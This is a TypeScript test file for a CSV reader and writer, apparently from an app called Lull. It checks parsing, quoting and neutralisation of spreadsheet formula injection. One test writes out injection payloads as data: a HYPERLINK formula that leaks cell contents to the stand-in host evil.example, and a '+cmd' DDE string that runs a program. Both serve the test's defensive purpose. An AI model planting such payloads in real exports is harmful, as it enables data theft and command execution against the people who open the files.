import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  FORMULA_START,
  csvField,
  csvQuoted,
  csvRow,
  parseCsv,
  type CsvParseResult,
} from "./csv.ts";

/** What a reader gets back from csvRow: the text, with a ' before one that began like a formula. */
const asWritten = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);

describe("parseCsv", () => {
  test("reads quoted commas, doubled quotes and line breaks inside quotes", () => {
    const result = parseCsv('name,note\r\n"Lovelace, Ada","said ""hi""\nthen left"\r\nBob,\r\n');
    expect(result).toEqual({
      ok: true,
      records: [
        { line: 1, fields: ["name", "note"] },
        { line: 2, fields: ["Lovelace, Ada", 'said "hi"\nthen left'] },
        { line: 4, fields: ["Bob", ""] },
      ],
    });
  });

  test("ignores a byte-order mark and blank lines, and accepts LF or no final newline", () => {
    expect(parseCsv("\uFEFFa,b\n\nc,d")).toEqual({
      ok: true,
      records: [
        { line: 1, fields: ["a", "b"] },
        { line: 3, fields: ["c", "d"] },
      ],
    });
  });

  test("an unclosed quote is an error naming the line it opened on", () => {
    expect(parseCsv('a\n"b,c\nd')).toEqual({
      ok: false,
      error: "Line 2: a quoted value is never closed.",
    });
  });

  test("reads any text, well-formed or not, as the plain character-at-a-time reading does", () => {
    const text = fc.string({
      unit: fc.constantFrom("a", "b", ",", '"', "\n", "\r", " ", "\uFEFF"),
      maxLength: 60,
    });
    fc.assert(
      fc.property(text, (input) => {
        expect(parseCsv(input)).toEqual(characterAtATime(input));
      }),
      { numRuns: 2000 },
    );
  });

  test("reads back exactly what the export's csvRow writes (a formula's text behind its ')", () => {
    const cell = fc.string({
      unit: fc.constantFrom(
        "a",
        "Z",
        ",",
        '"',
        "\n",
        "\r",
        " ",
        "é",
        "=",
        "+",
        "-",
        "@",
        "\t",
        "'",
      ),
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 8 }),
        (rows) => {
          const text = rows.map((r) => csvRow(r)).join("");
          const parsed = parseCsv(text);
          expect(parsed.ok).toBe(true);
          if (!parsed.ok) return;
          // A row of only empty fields is a line of commas, not a blank line: it survives.
          expect(parsed.records.map((r) => r.fields)).toEqual(rows.map((r) => r.map(asWritten)));
        },
      ),
    );
  });
});

describe("csvField and csvQuoted", () => {
  test("a field is quoted only when it holds a comma, a quote or a line break", () => {
    expect(csvField("plain text")).toBe("plain text");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\ronly")).toBe('"cr\ronly"');
  });

  test("text that begins like a formula gets a leading ' and is quoted (OWASP CSV injection)", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    );
    expect(csvField("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvField("-2+3")).toBe(`"'-2+3"`);
    expect(csvField("@SUM(A1:A2)")).toBe(`"'@SUM(A1:A2)"`);
    expect(csvField("\t=1")).toBe(`"'\t=1"`);
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    // Only the first character counts; a formula character later is plain text.
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("Visual Studio Code")).toBe("Visual Studio Code");
  });

  test("numbers and dates Lull writes itself are written as they are, negative or not", () => {
    expect(csvRow([-3, -0.5, 42, new Date("2026-11-27T09:30:00Z")])).toBe(
      "-3,-0.5,42,2026-11-27T09:30:00.000Z\r\n",
    );
  });

  test("property: no text written by csvField reads back as a cell a spreadsheet would run", () => {
    const text = fc.string({
      unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "'", "a", "1", " "),
    });
    fc.assert(
      fc.property(text, (value) => {
        const written = csvField(value);
        const parsed = parseCsv(`${written},end\r\n`);
        expect(parsed.ok).toBe(true);
        if (!parsed.ok) return;
        const cell = parsed.records[0]!.fields[0]!;
        expect(FORMULA_START.test(cell)).toBe(false);
        expect(cell).toBe(asWritten(value));
        // A neutralised field is always quoted, so the ' sits inside the quotes.
        if (FORMULA_START.test(value)) expect(written.startsWith(`"'`)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  test("null and undefined are empty fields; dates are UTC ISO 8601; numbers as written", () => {
    expect(csvRow([null, undefined, new Date("2026-11-27T09:30:00Z"), 42])).toBe(
      ",,2026-11-27T09:30:00.000Z,42\r\n",
    );
  });

  test("csvQuoted always quotes, even text that would not need it", () => {
    expect(csvQuoted("{}")).toBe('"{}"');
    expect(csvQuoted('{"a":1}')).toBe('"{""a"":1}"');
  });
});

/** The reading rules written as plainly as possible, one character at a time: the reference. */
function characterAtATime(input: string): CsvParseResult {
  const text = input.startsWith("\uFEFF") ? input.slice(1) : input;
  const records: { line: number; fields: string[] }[] = [];
  let fields: string[] = [];
  let field = "";
  let line = 1;
  let recordLine = 1;
  let quoted = false;
  let quoteLine = 0;
  let touched = false; // the current record has content (so "" is a field, not a blank line)

  const endField = () => {
    fields.push(field);
    field = "";
  };
  const endRecord = () => {
    endField();
    if (touched || fields.length > 1 || fields[0] !== "")
      records.push({ line: recordLine, fields });
    fields = [];
    touched = false;
  };

  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i++;
        } else quoted = false;
      } else {
        if (c === "\n") line++;
        field += c;
      }
      continue;
    }
    if (c === '"' && field === "") {
      quoted = true;
      quoteLine = line;
      touched = true;
    } else if (c === ",") {
      endField();
      touched = true;
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      endRecord();
      line++;
      recordLine = line;
    } else {
      field += c;
    }
  }
  if (quoted) return { ok: false, error: `Line ${quoteLine}: a quoted value is never closed.` };
  endRecord();
  return { ok: true, records };
}
